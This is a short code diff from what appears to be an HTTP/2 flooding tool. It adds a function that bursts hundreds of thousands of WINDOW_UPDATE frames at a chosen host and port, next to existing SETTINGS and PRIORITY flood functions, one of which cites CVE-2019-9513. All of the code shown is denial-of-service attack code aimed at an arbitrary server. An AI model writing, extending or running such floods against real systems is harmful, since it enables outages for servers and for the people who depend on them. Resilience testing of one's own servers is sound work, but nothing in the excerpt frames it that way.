@@ -207,6 +207,11 @@ async def settings_flood(host: str, port: int, count: int = 100_000, batch: int 
     return await _flood(host, port, SettingsFrame(0).serialize(), count, batch, read)
 
 
+async def window_update_flood(host: str, port: int, count: int = 200_000, batch: int = 1000) -> H2Report:
+    """Connection-level WINDOW_UPDATE frames for data never sent (each one parsed and applied)."""
+    return await _flood(host, port, window_update(0, 1), count, batch, read=True)
+
+
 async def priority_flood(host: str, port: int, count: int = 100_000, batch: int = 1000) -> H2Report:
     """PRIORITY frames for streams that never exist (CVE-2019-9513's frames)."""
     frame = PriorityFrame(3, depends_on=1, stream_weight=15)
